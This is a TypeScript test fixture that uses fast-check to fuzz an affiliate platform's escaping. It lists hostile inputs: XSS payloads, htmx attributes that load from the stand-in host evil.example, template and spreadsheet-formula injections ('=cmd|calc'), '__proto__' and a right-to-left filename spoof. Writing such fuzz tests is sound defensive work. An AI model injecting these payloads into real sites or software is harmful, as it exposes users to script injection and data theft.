import fc from 'fast-check';

/** What people who attack an affiliate platform put into a name, a sub-id, a referrer or a landing URL. */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover=alert(1) x='",
  '" onfocus="alert(1)" autofocus="',
  'javascript:alert(1)',
  '"hx-get=//evil.example hx-trigger=load',
  ' hx-get=//evil.example hx-trigger=load ',
  '{{7*7}}',
  '</textarea><script>alert(1)</script>',
  '</title><svg/onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
  '&lt;b&gt; & &amp;amp;',
  '<!-- --><![CDATA[ ]]>',
  '\u202Etxt.exe',
  'line\u2028separator\u2029end',
  '`-alert(1)-`',
  '\n\nfirst lines are kept',
  '\rof every kind',
  '=cmd|calc',
  '__proto__',
  '<',
  '"',
  "'",
  '&',
];

const fragments = [
  '<',
  '>',
  '</',
  '/>',
  '"',
  "'",
  '`',
  '=',
  '&',
  ';',
  '#',
  '<!--',
  '-->',
  ']]>',
  '\n',
  ' ',
  '\t',
  'x',
];
const words = [
  'script',
  'img',
  'svg',
  'p',
  'textarea',
  'title',
  'option',
  'onerror',
  'hx-get',
  'javascript:',
  'lt',
  'x3c',
];

/** Any text, leaning towards what confuses HTML parsers. */
export const hostileText = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.array(fc.constantFrom(...fragments, ...words), { maxLength: 12 }).map((parts) => parts.join('')),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
